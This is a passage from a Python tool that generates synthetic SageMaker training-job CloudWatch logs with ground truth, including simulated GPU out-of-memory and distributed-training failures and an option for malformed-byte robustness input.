                                     max(ts, fail["at"]) + fail["skew"]):
            yield t, msg


FAIL_OOM = (b"torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB "
            b"(GPU 0; 31.75 GiB total capacity; 28.10 GiB already allocated; 1.21 GiB free)")
CASCADE_DELAY_MS = (4000, 15000)


def toolkit_line(ts, level, text):
    sec, ms = divmod(ts, 1000)
    stamp = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(sec)).encode()
    return b"%s,%03d sagemaker-training-toolkit %-8s %s" % (stamp, ms, level, text)


def failure_events(kind, host, style, ts):
    """What a failing host prints from ts on: kind "cause" (the host that runs out of
    memory) or "cascade" (a host whose peer died).  A list of (ts, message)."""
    tb = (b"Traceback (most recent call last):\n"
          b"  File \"/opt/ml/code/train_dnn.py\", line 212, in <module>\n    main()\n"
          b"  File \"/opt/ml/code/train_dnn.py\", line 180, in main\n    loss.backward()")
    if kind == "cause":
        out = [(ts, tb), (ts, FAIL_OOM)]
        code = b"1"
    elif style == "trainer":
        out = [(ts, b"[E ProcessGroupNCCL.cpp:475] [Rank 3] Watchdog caught collective "
                    b"operation timeout: WorkNCCL(SeqNum=1841, OpType=ALLREDUCE, NumelIn=1, "
                    b"NumelOut=1, Timeout(ms)=600000) ran for 600561 milliseconds before "
                    b"timing out."),
               (ts + 3, tb.replace(b"loss.backward()", b"dist.all_reduce(t)")),
               (ts + 3, b"torch.distributed.DistBackendError: NCCL communicator was aborted "
                        b"on rank 3.  Original reason for failure was: [Rank 3] Watchdog "
                        b"caught collective operation timeout")]
        code = b"1"
    else:
        out = [(ts, b"[%s] RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:598] "
                    b"Connection closed by peer [10.0.1.17]:6000" % host.encode())]
        code = b"1"
    end = out[-1][0]
    out += [(end + 40, toolkit_line(end + 38, b"INFO", b"Waiting for the process to finish "
                                    b"and give a return code.")),
            (end + 52, toolkit_line(end + 50, b"INFO", b"Done waiting for a return code. "
                                    b"Received %s from exiting process." % code)),
            (end + 60, toolkit_line(end + 58, b"ERROR", b"Reporting training FAILURE")),
            (end + 60, toolkit_line(end + 58, b"ERROR", b"ExecuteUserScriptError:")),
            (end + 60, b"ExitCode %s" % code)]
    return out


def rank_failure_events(tags, rank, ts):
    """MPI rank `rank` runs out of memory: its traceback and exception line, each
    tagged and its own event (the toolkit prints rank output line by line), with
    another rank's lines between them; then the toolkit's failure report."""
    tb = (b"Traceback (most recent call last):\n"
          b"  File \"/opt/ml/code/train_dnn.py\", line 212, in <module>\n    main()\n"
          b"  File \"/opt/ml/code/train_dnn.py\", line 180, in main\n    loss.backward()")
    own = tags[rank].replace(b"<stdout>", b"<stderr>")
    other = tags[(rank + 1) % len(tags)]
    out = []
    for i, line in enumerate(tb.split(b"\n") + [FAIL_OOM]):
        out.append((ts + i, own + line))
        if i % 2 == 0 and other != tags[rank]:
            out.append((ts + i, other + b"step %d still waiting for the allreduce" % i))
    end = out[-1][0]
    out += [(end + 40, toolkit_line(end + 38, b"ERROR", b"Reporting training FAILURE")),
            (end + 40, b"ExitCode 1")]
    return out


TAGGED = re.compile(rb"^\[1,mpirank:\d+,[^\]]+\]<std(?:out|err)>:")


def failure_time(specs, fail, seed):
    """The timestamp of the failing host's (or rank's) traceback."""
    spec = next(s for s in specs if s["stream"] == fail["stream"])
    for ts, msg in body_events(spec, seed):
        if TAGGED.sub(b"", msg).startswith(b"Traceback"):
            return ts
    raise AssertionError("no traceback in " + fail["stream"])


def stream_events(spec, seed):
    yield from spec["head"]
    yield from body_events(spec, seed)


def write_planned(spec, opts):
    """Worker-process entry point: write one planned stream."""
    prefix = None
    if opts["events_file"]:
        prefix = truth_prefix(spec["stream"], spec["host"], spec["truth_group"])
    return write_stream(opts["outdir"], spec["stream"], stream_events(spec, opts["seed"]),
                        opts["layout"], opts["gzip"], opts["part_events"], opts["tsv"],
                        prefix)


# ---------------------------------------------------------------------------
# Planning the job


def parse_groups(text):
    groups = []
    for item in text.split(","):
        parts = item.split(":")
        if len(parts) != 3 or not parts[0] or not parts[1]:
            raise ValueError("group %r is not NAME:INSTANCE_TYPE:COUNT" % item)
        name, itype, count = parts
        if any(ord(c) < 0x20 or c == "\x7f" for c in name + itype):
            raise ValueError("group %r has a control character" % item)
        if not count.isdigit() or int(count) < 1:
            raise ValueError("group %r needs a positive host count" % item)
        if name in (g for g, _, _ in groups):
            raise ValueError("group %s is given twice" % name)
        groups.append((name, itype, int(count)))
    return groups


def spread_hosts(n):
    """--hosts N: N hosts over (up to) three groups."""
    counts = [n // 3] * 3
    for i in range(n % 3):
        counts[(1, 0)[i]] += 1
    return [(g, t, c) for (g, t), c in zip(HOSTS_GROUPS, counts) if c]


def parse_host(text, total, option):
    m = HOST_RE.match(text)
    if not m or int(m.group(1)) > total:
        raise ValueError("%s %s: not a host of this job (algo-1 .. algo-%d)"
                         % (option, text, total))
    return text


def plan_failure(args, specs, host, rank=None, rank_host=None):
    """--fail (or --fail-rank, host being the MPI master): when each stream stops
    and fails; returns scenario.fail."""
    rng = random.Random("%d/fail" % args.seed)
    own = [s for s in specs.values() if s["host"] == host and s["body_n"] > 0]
    if not own:
        raise ValueError("--fail %s: that host prints no user output" % host)
    spec = own[0]
    at = spec["t"] + int(spec["body_n"] * MEAN_GAP * 0.6)
    for s in specs.values():
        if s["body_n"] == 0:
            continue
        if s is spec and rank is not None:
            s["fail"] = {"kind": "rank", "rank": rank, "at": at, "skew": 0}
        elif s is spec:
            s["fail"] = {"kind": "cause", "at": at, "skew": args.fail_skew}
        else:
            s["fail"] = {"kind": "cascade", "skew": 0,
                         "at": at + rng.randint(*CASCADE_DELAY_MS)}
    # The traceback's timestamp is that of the host's first event at or past
    # "at", which only the writer knows: write_planned() fills it in.
    fail = {"host": host, "group": spec["truth_group"], "stream": spec["stream"],
            "summary": FAIL_OOM.decode(), "timestamp": None}
    if rank is not None:
        fail.update(host=rank_host, rank=rank, rank_host=rank_host)
    return fail


def plan(args):
    """Decide everything but the user output: returns (stream specs, truth).

    A spec holds a stream's complete head (start-up and markers) and how many user
    output events follow it; truth["lines"] is filled in once the streams are written.
    """
    rng = random.Random(args.seed)
    layout = parse_groups(args.groups) if args.hosts is None else spread_hosts(args.hosts)
    total = sum(c for _, _, c in layout)
    restart = parse_host(args.restart, total, "--restart") if args.restart else None
    hidden = parse_host(args.no_markers, total, "--no-markers") if args.no_markers else None

    # Host numbers are handed out across groups in random order, as SageMaker does.
    names = ["algo-%d" % i for i in range(1, total + 1)]
    rng.shuffle(names)
    groups = []
    for g, t, c in layout:
        groups.append((g, t, names[:c]))
        names = names[c:]
    job = Job(args.job, groups, hidden, args.mpi_workers)
    master = job.mpi_hosts[0] if job.mpi_hosts else None
    workers = job.mpi_hosts[1:]

    markers = [h for h in job.hosts if h != hidden and h not in workers]
    late = None
    if args.late_marker:
        if not markers:
            raise ValueError("--late-marker: no host prints markers")
        late = rng.choice(markers)

    starts = {h: args.start_ms + rng.randint(0, 9000) for h in job.hosts}
    specs = {}

    def add(host, head, kind):
        stream = "%s/%s-%d" % (job.name, host, head.events[0][0] // 1000)
        specs[stream] = {
            "stream": stream, "host": host, "kind": kind,
            "truth_group": "unassigned" if host == hidden else job.group_of[host],
            "head": head.events, "t": head.t,
            "body_n": (0 if kind == "mpi-worker"
                       else max(0, args.lines_per_host - len(head.events))),
            "style": job.style(host), "tags": rank_tags(job) if kind == "mpi-master" else [],
            "hostile": args.hostile, "huge_at": -1,
            "consumers": job.trainer_hosts(),
        }
        return specs[stream]

    def stream_rng(host, kind):
        return random.Random("%d/%s/%s" % (args.seed, host, kind))

    def est_end(spec):
        return spec["t"] + int(spec["body_n"] * MEAN_GAP)

    # Workers last: they finish when their master does.
    first = {}
    for host in [h for h in job.hosts if h not in workers] + workers:
        srng = stream_rng(host, "a")
        if host in workers:
            head = worker_head(job, host, starts[host], srng, est_end(first[master]))
            kind = "mpi-worker"
        elif host == hidden:
            head, kind = silent_head(job, host, starts[host], srng), "no-markers"
        else:
            head = marker_head(job, host, starts[host], srng, host == late)
            kind = "mpi-master" if host == master else "markers"
        first[host] = add(host, head, kind)
    if restart:
        # The restarted container starts minutes after the first one ends.
        t0 = est_end(first[restart]) + rng.randint(120000, 300000)
        add(restart, silent_head(job, restart, t0, stream_rng(restart, "b")), "restart")
    huge = None
    fail = None
    if getattr(args, "fail_rank", None) is not None:
        nranks = job.mpi_ppn * len(job.mpi_hosts)
        if not master or not 0 <= args.fail_rank < nranks:
            raise ValueError("--fail-rank %d: the job has %d MPI ranks (--mpi-workers)"
                             % (args.fail_rank, nranks))
        fail = plan_failure(args, specs, master, args.fail_rank,
                            job.mpi_hosts[args.fail_rank // job.mpi_ppn])
    elif getattr(args, "fail", None):
        fail = plan_failure(args, specs, parse_host(args.fail, total, "--fail"))
    if args.hostile:
        bodies = sorted(s for s in specs if specs[s]["body_n"] > 0)
        if bodies:
            huge = rng.choice(bodies)
            specs[huge]["huge_at"] = specs[huge]["body_n"] // 2

    truth = {
        "job": job.name,
        "groups": {g: {"instance_type": t, "hosts": hs} for g, t, hs in job.visible},
        "hosts": {h: ("unassigned" if h == hidden else job.group_of[h])
                  for h in sorted(job.hosts, key=host_num)},
        "streams": {s: specs[s]["host"] for s in sorted(specs)},
        "events": sum(len(s["head"]) + s["body_n"] for s in specs.values()),
        "lines": 0,
        "scenario": {
            "seed": args.seed,
            "layout": args.layout,
            "mpi_group": job.mpi_group,
            "mpi_master": master,
            "mpi_workers": workers,
            # Where each rank ran: OpenMPI fills the --host list's slots in order.
            "mpi_rank_hosts": [job.mpi_hosts[r // job.mpi_ppn]
                               for r in range(job.mpi_ppn * len(job.mpi_hosts))],
            "late_marker_host": late,
            "no_markers_host": hidden,
            "restart_host": restart,
            "hostile": args.hostile,
            "huge_line_stream": huge,
            "stream_kinds": {s: specs[s]["kind"] for s in sorted(specs)},
            "fail": fail,
        },
    }
    return [specs[s] for s in sorted(specs)], truth


def main(argv=None):
    ap = argparse.ArgumentParser(
        description="Generate the CloudWatch log streams of a synthetic SageMaker "
                    "heterogeneous training job, with its ground truth.",
        epilog="Writes OUTDIR/<job>/... (the streams), OUTDIR/truth.json and, for jobs "
               "of at most %d events, OUTDIR/truth.events.jsonl." % EVENTS_FILE_LIMIT)
    ap.add_argument("outdir", metavar="OUTDIR")
    ap.add_argument("--job", help="training job name (default: derived from --start-ms)")
    who = ap.add_mutually_exclusive_group()
    who.add_argument("--groups", default=DEFAULT_GROUPS,
                     help="NAME:INSTANCE_TYPE:COUNT,... (default: %(default)s)")
    who.add_argument("--hosts", type=int, metavar="N",
                     help="N hosts spread over data_group, train_group and eval_group")
    ap.add_argument("--lines-per-host", type=int, default=DEFAULT_LINES, metavar="N",
                    help="events per stream; never fewer than the start-up itself; MPI "
                         "workers print only their ~25 lines (default: %(default)s)")
    ap.add_argument("--seed", type=int, default=1, help="random seed (default: %(default)s)")
    ap.add_argument("--start-ms", type=int, default=DEFAULT_START_MS, metavar="T",
                    help="epoch ms of the earliest possible first event (default: %(default)s)")
    ap.add_argument("--layout", choices=("export", "plain"), default="export",
                    help="export: <stream>/000000.gz ... parts; plain: one file per stream "
                         "(default: %(default)s)")
    ap.add_argument("--gzip", action="store_true",
                    help="gzip plain-layout files (.gz); export parts are always gzipped")
    ap.add_argument("--part-events", type=int, default=PART_EVENTS, metavar="N",
                    help="events per export part (default: %(default)s)")
    ap.add_argument("--mpi-workers", action="store_true",
                    help="the largest group runs MPI: only its first host prints markers, "
                         "the others print MPI worker lines only")
    ap.add_argument("--restart", metavar="HOST",
                    help="HOST (algo-N) gets a second, later stream without markers")
    ap.add_argument("--late-marker", action="store_true",
                    help="one host prints %d ordinary lines before its markers"
                         % LATE_MARKER_LINES)
    ap.add_argument("--hostile", action="store_true",
                    help="sprinkle terminal escapes, C1/NUL/CR bytes, bidi overrides, invalid "
                         "UTF-8 and one 1 MiB line into user output")
    ap.add_argument("--no-markers", metavar="HOST",
                    help="HOST prints no markers and is left out of every group's host list, "
                         "so its group is 'unassigned'")
    ap.add_argument("--fail-rank", type=int, metavar="R",
                    help="MPI rank R fails (with --mpi-workers); see above")
    ap.add_argument("--fail", metavar="HOST",
                    help="HOST runs out of GPU memory and the others fail in turn")
    ap.add_argument("--fail-skew", type=int, default=0, metavar="MS",
                    help="--fail HOST's clock is MS ahead (negative: behind)")
    ap.add_argument("--tsv", action="store_true",
                    help="also write OUTDIR/tsv/<algo-N-epoch>.tsv per stream")
    ap.add_argument("--events-file", action="store_true",
                    help="write truth.events.jsonl whatever the job's size")
    ap.add_argument("--jobs", type=int, default=os.cpu_count() or 1, metavar="N",
                    help="writer processes (default: %(default)s)")
    args = ap.parse_args(argv)

    if args.job is None:
        sec, ms = divmod(args.start_ms, 1000)
        args.job = "hetero-gen-%s-%03d" % (
            time.strftime("%Y-%m-%d-%H-%M-%S", time.gmtime(sec)), ms)
    if not JOB_RE.match(args.job):
        ap.error("--job %r is not a valid training job name" % args.job)
    if args.hosts is not None and args.hosts < 1:
        ap.error("--hosts must be at least 1")
    if args.lines_per_host < 0 or args.part_events < 1 or args.jobs < 1:
        ap.error("--lines-per-host, --part-events and --jobs must be positive")
    try:
        specs, truth = plan(args)
    except ValueError as e:
        ap.error(str(e))
    if os.path.exists(os.path.join(args.outdir, args.job)):
        ap.error("%s already exists" % os.path.join(args.outdir, args.job))
    os.makedirs(args.outdir, exist_ok=True)

    events_file = args.events_file or truth["events"] <= EVENTS_FILE_LIMIT
    opts = {"outdir": args.outdir, "seed": args.seed, "layout": args.layout, "gzip": args.gzip,
            "part_events": args.part_events, "tsv": args.tsv, "events_file": events_file}
    if args.jobs == 1:
        results = [write_planned(spec, opts) for spec in specs]
    else:
        # Largest streams first, so the pool does not end on one long stream.
        order = sorted(range(len(specs)), key=lambda i: -specs[i]["body_n"])
        with ProcessPoolExecutor(max_workers=args.jobs) as pool:
            futures = {i: pool.submit(write_planned, specs[i], opts) for i in order}
            results = [futures[i].result() for i in range(len(specs))]
    events = sum(n for n, _ in results)
    fail = truth["scenario"]["fail"]
    if fail:
        # Failing streams stop early: they hold fewer events than planned.
        truth["events"] = events
        fail["timestamp"] = failure_time(specs, fail, args.seed)
    assert events == truth["events"], (events, truth["events"])
    truth["lines"] = sum(n for _, n in results)
    write_truth(args.outdir, truth, [s["stream"] for s in specs] if events_file else [])
    return 0


if __name__ == "__main__":
    sys.exit(main())
